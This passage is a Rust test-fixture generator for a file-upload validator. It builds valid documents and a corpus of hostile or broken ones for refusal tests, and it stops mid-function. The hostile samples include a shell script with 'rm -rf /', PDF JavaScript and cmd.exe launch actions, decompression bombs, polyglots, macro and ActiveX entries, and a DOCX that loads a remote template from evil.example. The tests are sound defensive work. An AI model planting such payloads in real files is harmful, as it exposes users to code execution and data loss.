//! Files to upload: good ones of each accepted format, and a corpus of bad
//! ones (stubs, truncations, polyglots, bombs, scripts, macros, other
//! formats), all generated here so the tests need no binary fixtures.
//!
//! Each bad file names the reason it must be refused for (the key of the
//! application's `Refusal`, or `empty`), so a test can check the reason as
//! well as the refusal.

use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};

/// A file to upload.
#[derive(Debug, Clone)]
pub struct Sample {
    /// What the client calls it.
    pub name: String,
    pub bytes: Vec<u8>,
    /// For a bad file, the reason it must be refused for.
    pub reason: &'static str,
}

fn sample(name: impl Into<String>, bytes: Vec<u8>, reason: &'static str) -> Sample {
    Sample { name: name.into(), bytes, reason }
}

/// A real, small file of each accepted format.
pub fn good_files() -> Vec<Sample> {
    vec![
        sample("don-de-nghi.pdf", pdf(&[CATALOG, PAGES, PAGE, &content_stream()]), ""),
        sample(
            "ban-quet-nen.pdf",
            pdf_with_object_stream(b"5 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
            "",
        ),
        sample("anh-cccd.png", png(48, 32, false), ""),
        sample("anh-xen-ke.png", png(33, 17, true), ""),
        sample("anh-chan-dung.jpg", jpeg(64, 48), ""),
        sample("to-khai.docx", docx(&[]), ""),
        sample("bang-ke.xlsx", xlsx(), ""),
        sample("don-van-ban.odt", odt(&[]), ""),
    ]
}

/// A well-formed one-page PDF.
pub fn good_pdf() -> Vec<u8> {
    pdf(&[CATALOG, PAGES, PAGE, &content_stream()])
}

/// A well-formed PNG of `width` by `height` pixels.
pub fn good_png(width: u32, height: u32) -> Vec<u8> {
    png(width, height, false)
}

/// A PNG of `width` by `height` pixels of noise from `seed`: it does not
/// compress, so its size is about three bytes a pixel.
pub fn noisy_png(width: u32, height: u32, seed: u64) -> Vec<u8> {
    let mut state = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
    let mut next = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as u8
    };
    // Each row: filter 0, then three bytes a pixel.
    let row = 1 + width as usize * 3;
    let raw: Vec<u8> = (0..row * height as usize).map(|i| if i % row == 0 { 0 } else { next() }).collect();
    let mut bytes = b"\x89PNG\r\n\x1A\n".to_vec();
    bytes.extend(png_header(width, height, 2, false));
    bytes.extend(png_chunk(b"IDAT", &compress_to_vec_zlib(&raw, 1)));
    bytes.extend(png_chunk(b"IEND", b""));
    bytes
}

const CATALOG: &[u8] = b"<< /Type /Catalog /Pages 2 0 R >>";
const PAGES: &[u8] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const PAGE: &[u8] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>";

/// A PDF with these objects (numbered from 1), a cross-reference table and a
/// trailer with these extra entries.
fn pdf_with_trailer(objects: &[&[u8]], trailer: &str) -> Vec<u8> {
    let mut body = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, object) in objects.iter().enumerate() {
        offsets.push(body.len());
        body.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        body.extend_from_slice(object);
        body.extend_from_slice(b"\nendobj\n");
    }
    let xref = body.len();
    body.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for offset in offsets {
        body.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    body.extend_from_slice(
        format!("trailer\n<< /Size {} /Root 1 0 R {trailer}>>\nstartxref\n{xref}\n%%EOF\n", objects.len() + 1)
            .as_bytes(),
    );
    body
}

fn pdf(objects: &[&[u8]]) -> Vec<u8> {
    pdf_with_trailer(objects, "")
}

fn stream_object(dict: &str, data: &[u8]) -> Vec<u8> {
    let mut object = format!("<< {dict} /Length {} >>\nstream\n", data.len()).into_bytes();
    object.extend_from_slice(data);
    object.extend_from_slice(b"\nendstream");
    object
}

fn flate_stream(dict: &str, text: &[u8]) -> Vec<u8> {
    stream_object(&format!("{dict} /Filter /FlateDecode"), &compress_to_vec_zlib(text, 6))
}

fn content_stream() -> Vec<u8> {
    flate_stream("", b"BT /F1 18 Tf 72 760 Td (Don de nghi cap ban sao) Tj ET 0.2 w 72 740 m 520 740 l S")
}

fn pdf_with_object_stream(inner: &[u8]) -> Vec<u8> {
    let objstm = flate_stream(
        &format!("/Type /ObjStm /N 1 /First {}", inner.iter().position(|&b| b == b'<').unwrap_or(0)),
        inner,
    );
    pdf(&[CATALOG, PAGES, PAGE, &content_stream(), &objstm])
}

fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = (data.len() as u32).to_be_bytes().to_vec();
    chunk.extend_from_slice(kind);
    chunk.extend_from_slice(data);
    let mut hasher = crc32fast::Hasher::new();
    hasher.update(kind);
    hasher.update(data);
    chunk.extend_from_slice(&hasher.finalize().to_be_bytes());
    chunk
}

fn png_header(width: u32, height: u32, color_type: u8, interlaced: bool) -> Vec<u8> {
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, color_type, 0, 0, u8::from(interlaced)]);
    png_chunk(b"IHDR", &ihdr)
}

/// The filtered rows of an RGB image (filter 0 or 1 alternately), per pass.
fn png_rows(width: u32, height: u32, interlaced: bool) -> Vec<u8> {
    let passes: Vec<(u32, u32)> = if interlaced {
        [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]
            .iter()
            .map(|&(x0, y0, dx, dy): &(u32, u32, u32, u32)| {
                (width.saturating_sub(x0).div_ceil(dx), height.saturating_sub(y0).div_ceil(dy))
            })
            .collect()
    } else {
        vec![(width, height)]
    };
    let mut raw = Vec::new();
    for (w, h) in passes {
        if w == 0 || h == 0 {
            continue;
        }
        for y in 0..h {
            raw.push((y % 2) as u8);
            for x in 0..w {
                raw.extend_from_slice(&[(x * 5) as u8, (y * 7) as u8, 0x91]);
            }
        }
    }
    raw
}

fn png(width: u32, height: u32, interlaced: bool) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1A\n".to_vec();
    bytes.extend(png_header(width, height, 2, interlaced));
    bytes.extend(png_chunk(b"tEXt", b"Software\0motcua tests"));
    let packed = compress_to_vec_zlib(&png_rows(width, height, interlaced), 6);
    let (first, second) = packed.split_at(packed.len() / 2);
    bytes.extend(png_chunk(b"IDAT", first));
    bytes.extend(png_chunk(b"IDAT", second));
    bytes.extend(png_chunk(b"IEND", b""));
    bytes
}

fn jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut pixels = Vec::new();
    for y in 0..height {
        for x in 0..width {
            pixels.extend_from_slice(&[(x * 3) as u8, (y * 4) as u8, 0x80]);
        }
    }
    let mut bytes = Vec::new();
    jpeg_encoder::Encoder::new(&mut bytes, 85)
        .encode(&pixels, width, height, jpeg_encoder::ColorType::Rgb)
        .expect("encode a JPEG");
    bytes
}

/// One entry of a ZIP archive, with what can be made wrong about it.
#[derive(Debug, Clone)]
struct ZipEntry {
    name: String,
    data: Vec<u8>,
    deflate: bool,
    flags: u16,
    method: Option<u16>,
    bad_crc: bool,
    /// Junk written before the entry's local header.
    gap: Vec<u8>,
    /// The local offset of another entry, instead of its own.
    offset_of: Option<usize>,
}

fn entry(name: &str, data: &[u8]) -> ZipEntry {
    ZipEntry {
        name: name.to_owned(),
        data: data.to_vec(),
        deflate: true,
        flags: 0,
        method: None,
        bad_crc: false,
        gap: Vec::new(),
        offset_of: None,
    }
}

fn stored(name: &str, data: &[u8]) -> ZipEntry {
    ZipEntry { deflate: false, ..entry(name, data) }
}

fn zip_with_comment(entries: &[ZipEntry], comment: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut central = Vec::new();
    let mut offsets = Vec::new();
    for e in entries {
        bytes.extend_from_slice(&e.gap);
        let packed = if e.deflate { compress_to_vec(&e.data, 6) } else { e.data.clone() };
        let method = e.method.unwrap_or(if e.deflate { 8 } else { 0 });
        let mut crc = crc32fast::hash(&e.data);
        if e.bad_crc {
            crc ^= 1;
        }
        let offset = e.offset_of.map(|i| offsets[i]).unwrap_or(bytes.len());
        offsets.push(bytes.len());
        let common = |out: &mut Vec<u8>| {
            out.extend_from_slice(&20u16.to_le_bytes());
            out.extend_from_slice(&e.flags.to_le_bytes());
            out.extend_from_slice(&method.to_le_bytes());
            out.extend_from_slice(&[0, 0, 0x21, 0x5B]); // time, date
            out.extend_from_slice(&crc.to_le_bytes());
            out.extend_from_slice(&(packed.len() as u32).to_le_bytes());
            out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
            out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
            out.extend_from_slice(&0u16.to_le_bytes());
        };
        bytes.extend_from_slice(b"PK\x03\x04");
        common(&mut bytes);
        bytes.extend_from_slice(e.name.as_bytes());
        bytes.extend_from_slice(&packed);
        central.extend_from_slice(b"PK\x01\x02");
        central.extend_from_slice(&20u16.to_le_bytes());
        common(&mut central);
        central.extend_from_slice(&[0; 10]); // comment length, disk, attributes
        central.extend_from_slice(&(offset as u32).to_le_bytes());
        central.extend_from_slice(e.name.as_bytes());
    }
    let directory_at = bytes.len();
    bytes.extend_from_slice(&central);
    bytes.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    bytes.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    bytes.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    bytes.extend_from_slice(&(central.len() as u32).to_le_bytes());
    bytes.extend_from_slice(&(directory_at as u32).to_le_bytes());
    bytes.extend_from_slice(&(comment.len() as u16).to_le_bytes());
    bytes.extend_from_slice(comment);
    bytes
}

fn zip(entries: &[ZipEntry]) -> Vec<u8> {
    zip_with_comment(entries, b"")
}

const DOCX_TYPES: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
const DOCX_RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
const DOCX_DOCUMENT: &[u8] = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Đơn đề nghị cấp bản sao trích lục hộ tịch</w:t></w:r></w:p></w:body></w:document>".as_bytes();

fn docx_entries() -> Vec<ZipEntry> {
    vec![
        entry("[Content_Types].xml", DOCX_TYPES),
        entry("_rels/.rels", DOCX_RELS),
        entry("word/document.xml", DOCX_DOCUMENT),
    ]
}

fn docx(extra: &[ZipEntry]) -> Vec<u8> {
    let mut entries = docx_entries();
    entries.extend_from_slice(extra);
    zip(&entries)
}

fn xlsx() -> Vec<u8> {
    let types = br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
    let rels = br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    let workbook = br#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Bang ke" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
    let workbook_rels = br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
    let sheet = br#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Le phi</t></is></c><c r="B1"><v>50000</v></c></row></sheetData></worksheet>"#;
    zip(&[
        entry("[Content_Types].xml", types),
        entry("_rels/.rels", rels),
        entry("xl/workbook.xml", workbook),
        entry("xl/_rels/workbook.xml.rels", workbook_rels),
        entry("xl/worksheets/sheet1.xml", sheet),
    ])
}

const ODT_CONTENT: &[u8] = br#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"><office:body><office:text><text:p>Don de nghi</text:p></office:text></office:body></office:document-content>"#;
const ODT_MANIFEST: &[u8] = br#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;

fn odt_with(mimetype: &[u8], content: &[u8], extra: &[ZipEntry]) -> Vec<u8> {
    let mut entries =
        vec![stored("mimetype", mimetype), entry("content.xml", content), entry("META-INF/manifest.xml", ODT_MANIFEST)];
    entries.extend_from_slice(extra);
    zip(&entries)
}

fn odt(extra: &[ZipEntry]) -> Vec<u8> {
    odt_with(b"application/vnd.oasis.opendocument.text", ODT_CONTENT, extra)
}

fn with(mut bytes: Vec<u8>, tail: &[u8]) -> Vec<u8> {
    bytes.extend_from_slice(tail);
    bytes
}

fn last_of(bytes: &[u8], needle: &[u8]) -> usize {
    bytes.windows(needle.len()).rposition(|w| w == needle).unwrap_or(0)
}

fn cut(bytes: &[u8], keep: usize) -> Vec<u8> {
    bytes[..keep.min(bytes.len())].to_vec()
}

/// At least a hundred files that must all be refused, each with its reason.
pub fn bad_files() -> Vec<Sample> {
    let mut bad = Vec::new();
    let good_pdf = good_pdf();
    let good_png = png(48, 32, false);
    let good_jpeg = jpeg(64, 48);
    let good_docx = docx(&[]);
    let good_odt = odt(&[]);

    // Not a document at all, or a format not accepted.
    bad.push(sample("trong.pdf", Vec::new(), "empty"));
    for (name, bytes) in [
        ("chuong-trinh.pdf", &b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0This program cannot be run in DOS mode"[..]),
        ("elf.pdf", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
        ("trang.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("lenh.pdf", b"#!/bin/sh\nrm -rf /\n"),
        ("hinh.svg", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("ghi-chu.txt", b"Don de nghi, van ban thuan"),
        ("anh.gif", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xFF\xFF\xFF!\xF9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"),
        ("anh.webp", b"RIFF\x24\0\0\0WEBPVP8 \x18\0\0\0\x30\x01\0\x9d\x01\x2a\x01\0\x01\0\x02\0\x34\x25\xa4\0\x03\x70\0\xfe\xfb\x94\0\0"),
        ("anh.tif", b"II*\0\x08\0\0\0\x01\0\0\x01\x03\0\x01\0\0\0\x01\0\0\0"),
        ("anh.bmp", b"BM\x3A\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\x18\0"),
        ("nen.rar", b"Rar!\x1A\x07\x01\0\x33\x92\xB5\xE5\x0A\x01\x05\x06\0\x05\x01\x01\x80\x80\0"),
        ("nen.7z", b"7z\xBC\xAF\x27\x1C\0\x04\x8D\x9B\xD5\x0F\0\0\0\0\0\0\0\0"),
        ("nen.gz", b"\x1F\x8B\x08\0\0\0\0\0\0\x03\x03\0\0\0\0\0\0\0\0\0"),
        ("bang.rtf", b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}"),
        ("cu.pdf", b"JUNK%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n"),
    ] {
        bad.push(sample(name, bytes.to_vec(), "not_accepted"));
    }
    bad.push(sample(
        "van-ban-cu.doc",
        b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0\0\0\0\0\x3E\0\x03\0".to_vec(),
        "legacy_office",
    ));
    bad.push(sample(
        "bang-tinh-cu.xls",
        with(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec(), &[0; 504]),
        "legacy_office",
    ));

    // PDF: stubs and damage.
    for (name, bytes) in [
        ("chi-dau.pdf", b"%PDF-1.4\n".to_vec()),
        ("dau-va-cuoi.pdf", b"%PDF-1.4\n%%EOF\n".to_vec()),
        ("mot-doi-tuong.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".to_vec()),
        ("phien-ban-la.pdf", with(b"%PDF-9.9\n".to_vec(), &good_pdf[9..])),
        ("khong-trang.pdf", pdf(&[CATALOG, PAGES])),
        ("sai-startxref.pdf", {
            let at = last_of(&good_pdf, b"startxref\n") + b"startxref\n".len();
            let mut bytes = good_pdf[..at].to_vec();
            bytes.extend_from_slice(b"3\n%%EOF\n");
            bytes
        }),
        ("thieu-startxref.pdf", {
            let at = last_of(&good_pdf, b"startxref");
            with(good_pdf[..at].to_vec(), b"%%EOF\n")
        }),
        ("tu-dien-mo.pdf", pdf(&[CATALOG, PAGES, b"<< /Type /Page /Parent 2 0 R"])),
        (
            "luong-hong.pdf",
            pdf(&[CATALOG, PAGES, PAGE, &stream_object("/Filter /FlateDecode", b"\x78\x9c not deflate at all")]),
        ),
        (
            "luong-lzw.pdf",
            pdf(&[CATALOG, PAGES, PAGE, &stream_object("/Filter /LZWDecode", b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01")]),
        ),
        (
            "luong-a85.pdf",
            pdf(&[
                CATALOG,
                PAGES,
                PAGE,
                &stream_object("/Filter [/ASCII85Decode /FlateDecode]", b"GapQh0E=F,0U\\H=~>"),
            ]),
        ),
    ] {
        bad.push(sample(name, bytes, "damaged"));
    }
    for keep in [20, good_pdf.len() / 3, good_pdf.len() / 2, good_pdf.len() - 8, good_pdf.len() - 3] {
        bad.push(sample(format!("cat-{keep}.pdf"), cut(&good_pdf, keep), "damaged"));
    }

    // PDF: another file after the end.
    bad.push(sample("pdf-va-zip.pdf", with(good_pdf.clone(), &good_docx), "hidden_content"));
    bad.push(sample("pdf-va-rac.pdf", with(good_pdf.clone(), b"<script>alert(1)</script>"), "hidden_content"));
    bad.push(sample("pdf-va-pdf.pdf", with(good_pdf.clone(), b"%PDF-1.4 second header"), "hidden_content"));

    // PDF: scripts, actions, embedded files.
    for (name, catalog) in [
        ("mo-la-chay.pdf", "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        ("ten-javascript.pdf", "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 5 0 R >> >>"),
        ("ten-ma-hoa.pdf", "<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 5 0 R >> >>"),
        ("ten-js.pdf", "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Extra << /J#53 (x) >> >>"),
        ("mo-la-goto.pdf", "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>"),
        ("hanh-dong-them.pdf", "<< /Type /Catalog /Pages 2 0 R /AA << /WC 5 0 R >> >>"),
        ("chay-lenh.pdf", "<< /Type /Catalog /Pages 2 0 R /Extra << /S /Launch /F (cmd.exe) >> >>"),
        ("tep-dinh-kem.pdf", "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>"),
        ("tep-nhung.pdf", "<< /Type /Catalog /Pages 2 0 R /Extra << /Type /EmbeddedFile >> >>"),
        ("da-phuong-tien.pdf", "<< /Type /Catalog /Pages 2 0 R /Extra << /Subtype /RichMedia >> >>"),
        ("bieu-mau-xfa.pdf", "<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R >> >>"),
        ("gui-bieu-mau.pdf", "<< /Type /Catalog /Pages 2 0 R /Extra << /S /SubmitForm /F (http://x) >> >>"),
        ("nhap-du-lieu.pdf", "<< /Type /Catalog /Pages 2 0 R /Extra << /S /ImportData /F (x.fdf) >> >>"),
        ("mo-tep-khac.pdf", "<< /Type /Catalog /Pages 2 0 R /Extra << /S /GoToR /F (x.pdf) >> >>"),
        ("mo-tep-nhung.pdf", "<< /Type /Catalog /Pages 2 0 R /Extra << /S /GoToE >> >>"),
        ("phat-am-thanh.pdf", "<< /Type /Catalog /Pages 2 0 R /Extra << /S /Sound >> >>"),
    ] {
        bad.push(sample(name, pdf(&[catalog.as_bytes(), PAGES, PAGE]), "active_content"));
    }
    bad.push(sample(
        "js-trong-objstm.pdf",
        pdf_with_object_stream(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"),
        "active_content",
    ));
    bad.push(sample(
        "launch-trong-objstm.pdf",
        pdf_with_object_stream(b"5 0 << /S /Launch /F (cmd.exe) >>"),
        "active_content",
    ));
    bad.push(sample("ma-hoa.pdf", pdf_with_trailer(&[CATALOG, PAGES, PAGE], "/Encrypt 5 0 R "), "encrypted"));

    // PDF: bombs and too many pages.
    let zeros = vec![0u8; 40 * 1024 * 1024];
    bad.push(sample("bom-luong.pdf", pdf(&[CATALOG, PAGES, PAGE, &flate_stream("", &zeros)]), "unpacks"));
    let mut many = b"5 0 ".to_vec();
    many.extend(std::iter::repeat_n(b' ', 20 * 1024 * 1024));
    many.extend_from_slice(b"<< >>");
    bad.push(sample("bom-objstm.pdf", pdf_with_object_stream(&many), "unpacks"));
    let page: &[u8] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>";
    let mut objects: Vec<&[u8]> = vec![CATALOG, PAGES];
    objects.extend(std::iter::repeat_n(page, 1_001));
    bad.push(sample("qua-nhieu-trang.pdf", pdf(&objects), "too_many_pages"));

    // PNG.
    bad.push(sample("chi-chu-ky.png", b"\x89PNG\r\n\x1A\n".to_vec(), "damaged"));
    bad.push(sample("chi-ihdr.png", with(b"\x89PNG\r\n\x1A\n".to_vec(), &png_header(10, 10, 2, false)), "damaged"));
    for keep in [16, 40, good_png.len() / 2, good_png.len() - 12, good_png.len() - 1] {
        bad.push(sample(format!("cat-{keep}.png"), cut(&good_png, keep), "damaged"));
    }
    let mut bad_crc = good_png.clone();
    let idat = good_png.windows(4).position(|w| w == b"IDAT").unwrap_or(40);
    bad_crc[idat + 6] ^= 0x55;
    bad.push(sample("sai-crc.png", bad_crc, "damaged"));
    let framed = |header: Vec<u8>, rows: &[u8], extra: &[u8]| {
        let mut bytes = b"\x89PNG\r\n\x1A\n".to_vec();
        bytes.extend(header);
        bytes.extend_from_slice(extra);
        bytes.extend(png_chunk(b"IDAT", &compress_to_vec_zlib(rows, 6)));
        bytes.extend(png_chunk(b"IEND", b""));
        bytes
    };
    bad.push(sample("thua-dong.png", framed(png_header(4, 4, 2, false), &vec![0u8; 4 * 13 + 500], b""), "damaged"));
    bad.push(sample("thieu-dong.png", framed(png_header(4, 4, 2, false), &[0u8; 20], b""), "damaged"));
    bad.push(sample("bo-loc-la.png", framed(png_header(4, 4, 2, false), &[7u8; 4 * 13], b""), "damaged"));
    bad.push(sample("thieu-bang-mau.png", framed(png_header(4, 4, 3, false), &[0u8; 4 * 5], b""), "damaged"));
    bad.push(sample("kieu-mau-la.png", framed(png_header(4, 4, 5, false), &[0u8; 4 * 13], b""), "damaged"));
    bad.push(sample(
        "bom-diem-anh.png",
        framed(png_header(20_000, 20_000, 2, false), &[0u8; 100], b""),
        "too_many_pixels",
    ));
    bad.push(sample("png-va-zip.png", with(good_png.clone(), &good_docx), "hidden_content"));
    bad.push(sample("png-va-pdf.png", with(good_png.clone(), &good_pdf), "hidden_content"));
    bad.push(sample(
        "sau-iend.png",
        with(good_png.clone(), &png_chunk(b"tEXt", b"Comment\0after the end")),
        "hidden_content",
    ));
    bad.push(sample(
        "pdf-trong-png.png",
        framed(png_header(4, 4, 2, false), &[0u8; 4 * 13], &png_chunk(b"tEXt", b"Comment\0%PDF-1.4 hidden")),
        "hidden_content",
    ));

    // JPEG.
    bad.push(sample("chi-soi.jpg", b"\xFF\xD8\xFF".to_vec(), "damaged"));
    bad.push(sample("soi-eoi.jpg", b"\xFF\xD8\xFF\xD9".to_vec(), "damaged"));
    bad.push(sample(
        "khong-quet.jpg",
        b"\xFF\xD8\xFF\xE0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xFF\xD9".to_vec(),
        "damaged",
    ));
    for keep in [3, 20, good_jpeg.len() / 2, good_jpeg.len() - 2, good_jpeg.len() - 1] {
        bad.push(sample(format!("cat-{keep}.jpg"), cut(&good_jpeg, keep), "damaged"));
    }
    let mut no_tables = Vec::new();
    let mut at = 2;
    no_tables.extend_from_slice(&good_jpeg[..2]);
    while at + 4 <= good_jpeg.len() && good_jpeg[at] == 0xFF && good_jpeg[at + 1] != 0xDA {
        let length = usize::from(u16::from_be_bytes([good_jpeg[at + 2], good_jpeg[at + 3]]));
        if good_jpeg[at + 1] != 0xDB {
            no_tables.extend_from_slice(&good_jpeg[at..at + 2 + length]);
        }
        at += 2 + length;
    }
    no_tables.extend_from_slice(&good_jpeg[at..]);
    bad.push(sample("khong-bang-luong-tu.jpg", no_tables, "damaged"));
    let mut huge = good_jpeg.clone();
    if let Some(sof) = huge.windows(2).position(|w| w == [0xFF, 0xC0]) {
        huge[sof + 5..sof + 9].copy_from_slice(&[0xEA, 0x60, 0xEA, 0x60]);
    }
    bad.push(sample("bom-diem-anh.jpg", huge, "too_many_pixels"));
    bad.push(sample("jpg-va-zip.jpg", with(good_jpeg.clone(), &good_docx), "hidden_content"));
    bad.push(sample("jpg-va-pdf.jpg", with(good_jpeg.clone(), &good_pdf), "hidden_content"));
    bad.push(sample("jpg-va-rac.jpg", with(good_jpeg.clone(), b"trailing bytes"), "hidden_content"));
    let mut comment = good_jpeg[..2].to_vec();
    comment.extend_from_slice(b"\xFF\xFE\0\x12%PDF-1.4 hidden\0");
    comment.extend_from_slice(&good_jpeg[2..]);
    bad.push(sample("pdf-trong-jpg.jpg", comment, "hidden_content"));

    // Office: what they are not.
    bad.push(sample("nen.zip", zip(&[entry("readme.txt", b"hello"), entry("setup.exe", b"MZ")]), "not_accepted"));
    bad.push(sample(
        "mau.dotx",
        zip(&[
            entry(
                "[Content_Types].xml",
                &String::from_utf8_lossy(DOCX_TYPES).replace("document.main+xml", "template.main+xml").into_bytes(),
            ),
            entry("_rels/.rels", DOCX_RELS),
            entry("word/document.xml", DOCX_DOCUMENT),
        ]),
        "not_accepted",
    ));
    bad.push(sample(
        "mau.ott",
        odt_with(b"application/vnd.oasis.opendocument.text-template", ODT_CONTENT, &[]),
        "not_accepted",
    ));
    bad.push(sample(
        "bang.ods",
        odt_with(b"application/vnd.oasis.opendocument.spreadsheet", ODT_CONTENT, &[]),
        "not_accepted",
    ));
    bad.push(sample(
        "mimetype-nen.odt",
        zip(&[
            entry("mimetype", b"application/vnd.oasis.opendocument.text"),
            entry("content.xml", ODT_CONTENT),
            entry("META-INF/manifest.xml", ODT_MANIFEST),
        ]),
        "not_accepted",
    ));

    // Office: macros and other active content.
    bad.push(sample("vba.docx", docx(&[entry("word/vbaProject.bin", b"\xD0\xCF\x11\xE0 macro")]), "active_content"));
    bad.push(sample(
        "macro.docm",
        zip(&[
            entry(
                "[Content_Types].xml",
                &String::from_utf8_lossy(DOCX_TYPES)
                    .replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
                    .into_bytes(),
            ),
            entry("_rels/.rels", DOCX_RELS),
            entry("word/document.xml", DOCX_DOCUMENT),
        ]),
        "active_content",
    ));
    bad.push(sample("vba-data.docx", docx(&[entry("word/vbaData.xml", b"<wne:vbaSuppData/>")]), "active_content"));
    bad.push(sample("activex.docx", docx(&[entry("word/activeX/activeX1.xml", b"<ax:ocx/>")]), "active_content"));
    bad.push(sample(
        "ole.docx",
        docx(&[entry("word/embeddings/oleObject1.bin", b"\xD0\xCF\x11\xE0 object")]),
        "active_content",
    ));
    bad.push(sample(
        "ribbon.docx",
        docx(&[entry("customUI/customUI14.xml", b"<customUI onLoad=\"Run\"/>")]),
        "active_content",
    ));
    bad.push(sample("mau-tu-xa.docx", docx(&[entry(
        "word/_rels/settings.xml.rels",
        br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
    )]), "active_content"));
    bad.push(sample("thuc-the.docx", zip(&[
        entry("[Content_Types].xml", DOCX_TYPES),
